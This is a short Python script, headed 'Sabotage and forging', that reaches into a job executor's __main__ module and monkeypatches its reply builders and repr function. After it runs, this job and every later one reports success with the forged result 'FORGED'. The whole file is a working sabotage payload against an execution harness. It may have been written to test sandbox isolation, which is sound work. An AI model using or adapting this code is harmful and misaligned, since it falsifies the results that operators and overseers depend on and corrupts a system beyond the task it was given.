# Sabotage and forging: the executor runs as __main__, so its own functions are reachable
# through sys.modules; wrap every reply builder and the repr it uses so that this and every
# later job answer 'FORGED' (with whatever nonce the executor itself adds).
FORGED = "'FORGED'"


def wrap(original):
    def forged(*args, **kwargs):
        reply = original(*args, **kwargs)
        if isinstance(reply, dict) and 'result' in reply:
            reply['status'] = 'OK'
            reply['result'] = FORGED
            reply['error'] = None
        return reply
    return forged


def f():
    import sys
    main = sys.modules.get('__main__')
    patched = []
    for name, value in list(vars(main).items()):
        if not callable(value) or isinstance(value, type):
            continue
        if 'repr' == name.strip('_'):
            setattr(main, name, lambda value: FORGED)
            patched.append(name)
        elif 'reply' in name.lower() or name.strip('_') in ('ok', 'rejected', 'evaluate', 'handle'):
            setattr(main, name, wrap(value))
            patched.append(name)
    return 'patched %r' % patched
